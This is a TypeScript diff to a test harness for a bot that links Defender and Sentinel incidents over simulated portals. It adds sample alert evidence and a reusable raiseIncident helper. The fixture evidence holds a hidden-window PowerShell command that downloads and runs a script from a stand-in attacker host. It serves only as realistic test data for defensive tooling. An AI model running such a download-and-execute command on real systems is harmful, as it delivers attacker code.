@@ -24,12 +24,27 @@ const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
 
 /** pino levels: 50 = error, 60 = fatal. */
 
+/** The evidence of the sample alert, in Graph's shapes: the device, the account, and what ran and was reached. */
+export const SAMPLE_EVIDENCE = [
+  { '@odata.type': '#microsoft.graph.security.deviceEvidence', deviceDnsName: 'fin-laptop-07.contoso.example', mdeDeviceId: '4f8a2e1c9b7d6a5f3e2d1c0b9a8f7e6d5c4b3a21', osPlatform: 'Windows11', version: '23H2', roles: ['compromised'] },
+  { '@odata.type': '#microsoft.graph.security.userEvidence', userAccount: { accountName: 'jkim', domainName: 'CONTOSO', userPrincipalName: 'jenny.kim@contoso.example', displayName: 'Jenny Kim' }, roles: ['compromised'] },
+  { '@odata.type': '#microsoft.graph.security.processEvidence', processId: 7412, processCommandLine: 'powershell.exe -nop -w hidden -c iwr https://evil.example/stage2.ps1 | iex', imageFile: { fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0' }, verdict: 'suspicious' },
+  { '@odata.type': '#microsoft.graph.security.urlEvidence', url: 'https://evil.example/stage2.ps1', verdict: 'malicious', roles: ['commandAndControl'] },
+  { '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress: '203.0.113.45', countryLetterCode: 'NL', verdict: 'malicious', roles: ['attacker'] },
+];
+
 /** The alert the flow raises; the Graph simulator turns it into a new incident with this title. */
 export const SAMPLE_ALERT = {
   serviceSource: 'microsoftDefenderForEndpoint',
   title: 'Suspicious PowerShell download on FIN-LAPTOP-07',
-  severity: 'medium',
-} as const;
+  severity: 'medium' as const,
+  category: 'Execution',
+  mitreTechniques: ['T1059.001', 'T1105'],
+  evidence: SAMPLE_EVIDENCE,
+};
+
+/** What raiseIncident raises: an alert as the simulators' control API takes it. */
+export type AlertToRaise = Parameters<RunningSimulators['control']['raiseAlert']>[0];
 
 export interface ProductOptions {
   /** Simulated portals mirror title, severity, tags and comments between themselves (default true). */
@@ -48,6 +63,8 @@ export interface ProductBot extends BotUnderTest {
   readonly config: Config;
   /** The Graph (Defender) id of the sample incident, once announced. */
   readonly defenderId: string;
+  /** Raises an alert that opens an incident, and waits until the watcher linked it with its Sentinel copy. */
+  raiseIncident(alert: AlertToRaise): Promise<{ defenderId: string; linkId: string }>;
 }
 
 
@@ -125,6 +142,21 @@ export async function startProductOverSimulators(options: ProductOptions = {}): 
     tags: [],
   };
 
+  const control = simulators.control;
+  async function raiseIncident(alert: AlertToRaise): Promise<{ defenderId: string; linkId: string }> {
+    const raised = control.raiseAlert(alert);
+    // The watcher polls Graph and ARM, then links the Defender incident and its Sentinel copy.
+    const link = await waitUntil(
+      `the watcher to link Defender incident ${raised.incidentId} with its Sentinel copy`,
+      async () => {
+        const found = await store.links.findByDefenderId(pairId, raised.incidentId);
+        return found?.sentinelId ? found : null;
+      },
+      options.linkTimeoutMs ?? 20_000,
+    );
+    return { defenderId: raised.incidentId, linkId: link.linkId };
+  }
+
   return {
     endpoint: `http://127.0.0.1:${bridge.port}/api/messages`,
     sample,
@@ -135,19 +167,11 @@ export async function startProductOverSimulators(options: ProductOptions = {}): 
       if (defenderId === null) throw new Error('The sample incident was not raised yet: call announceSampleIncident() first.');
       return defenderId;
     },
+    raiseIncident,
     async announceSampleIncident() {
-      const raised = simulators.control.raiseAlert({ ...SAMPLE_ALERT });
-      defenderId = raised.incidentId;
-      // The watcher polls Graph and ARM, then links the Defender incident and its Sentinel copy.
-      const link = await waitUntil(
-        `the watcher to link Defender incident ${raised.incidentId} with its Sentinel copy`,
-        async () => {
-          const found = await store.links.findByDefenderId(pairId, raised.incidentId);
-          return found?.sentinelId ? found : null;
-        },
-        options.linkTimeoutMs ?? 20_000,
-      );
-      linkId = link.linkId;
+      const raised = await raiseIncident(SAMPLE_ALERT);
+      defenderId = raised.defenderId;
+      linkId = raised.linkId;
     },
     async idle() {
       // Edits are finished (applied and read back, or failed) once no request is unfinished.
